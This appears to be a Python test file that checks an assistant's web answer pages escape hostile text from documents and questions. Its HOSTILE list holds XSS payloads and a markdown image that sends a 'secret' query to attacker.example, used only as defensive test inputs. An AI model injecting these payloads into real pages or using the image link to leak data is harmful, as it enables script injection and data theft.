"""What is shown is text: nothing from documents or questions becomes markup."""

import re
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.answers import Notice
from assistant.web.rendering import render_answer, render_failure, render_header, render_waiting
from assistant.web.service import Overview
from tests.assistant.web.answers import answered, cited, refused

HOSTILE = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)',
        "</blockquote></td></article><iframe srcdoc=x>",
        "[click](javascript:alert(1))",
        "![x](https://attacker.example/?q=secret)",
        "<!-- --><a href=javascript:alert(1)>",
        "${alert(1)} {{7*7}} {% raw %} `",
        "&lt;b&gt;",
    ]
)
WILD = st.lists(HOSTILE | st.text(max_size=20), min_size=1, max_size=4).map("".join).filter(bool)
ALLOWED = re.compile(
    "div|p|span|[uo]l|li|section|article|strong|header|footer|aside|h[123]|a|sup|blockquote|table|thead|"
    "tbody|t[rhd]|code|i"
)
ATTRIBUTES = re.compile("class|id|href|role|scope|tabindex|aria-label|aria-hidden|data-header")


class Reader(HTMLParser):
    """Collects the tags, attributes, links and words of a page."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.links, self.words = set(), set(), [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        raise AssertionError("a comment in the page")


def read_safely(html):
    reader = Reader(html)
    assert all(map(ALLOWED.fullmatch, reader.tags))
    assert all(map(ATTRIBUTES.fullmatch, reader.attributes))
    assert all(link.startswith("#") for link in reader.links)
    return "".join(reader.words)


@settings(deadline=None)  # the first answer loads the lists of drugs
@given(title=WILD, heading=WILD, quote=WILD, question=WILD, notice=WILD)
def test_an_answer_shows_hostile_text_as_text(title, heading, quote, question, notice):
    citation = cited(1, quote, title=title, section=(heading,), version=title)
    header = cited(2, f"{title} | {heading}", title=title, section=(heading,))
    row = cited(3, f"{quote} | {quote}", title=title, section=(heading,))
    answer = answered(
        [(quote, (1, 2)), (f"{title}: {quote}; {heading}: {quote}", (3, 2), True)],
        [citation, header, row],
        question=question,
        notices=[notice],
    )
    words = read_safely(render_answer(answer, 3))
    assert notice in words
    assert title in words


@given(title=WILD, heading=WILD, question=WILD, message=WILD)
def test_a_refusal_shows_hostile_text_as_text(title, heading, question, message):
    nearest = cited(1, "x", title=title, section=(heading,))
    words = read_safely(render_answer(refused(message, [nearest], question=question), 3))
    assert message in words
    assert question in words


@given(WILD)
def test_a_failure_and_a_banner_show_hostile_text_as_text(words):
    overview = Overview("a", 1, "1", (), (), (), ())
    assert words in read_safely(render_failure(words))
    assert words in read_safely(render_header(words, overview))


def test_a_number_leads_to_its_source_and_back():
    reader = Reader(render_answer(answered([("Give zinc.", (1,))], [cited(1, "Give zinc.")]), 1))
    assert sorted(reader.links) == [f"#a-{'0' * 32}-1", f"#s-{'0' * 32}-1"]


def test_the_record_of_an_answer_can_be_found_again():
    page = render_answer(answered([("Give zinc.", (1,))], [cited(1, "Give zinc.")]), 47)
    for part in ("0" * 32, "abc", "47 documents in force", "extractive/1", "1.23 s"):
        assert part in page


def test_waiting_is_said_in_words():
    assert "Reading the approved documents" in read_safely(render_waiting())


def test_the_two_sides_of_a_conflict_stand_beside_each_other():
    sides = (
        cited(1, "Zinc 20 mg once daily", title="Ward protocol"),
        cited(2, "Zinc 50 mg once daily", title="National <b>guide</b>", page=7),
    )
    notice = Notice("sources_conflict", "Two documents in force differ.", sides)
    html = render_answer(
        answered([("Zinc 20 mg once daily", (1,))], sides[:1], notices=[notice]), documents=2
    )

    for words in ("Two documents in force differ.", "Zinc 50 mg once daily", "page 7"):
        assert words in html
    assert "National &lt;b&gt;guide" in html
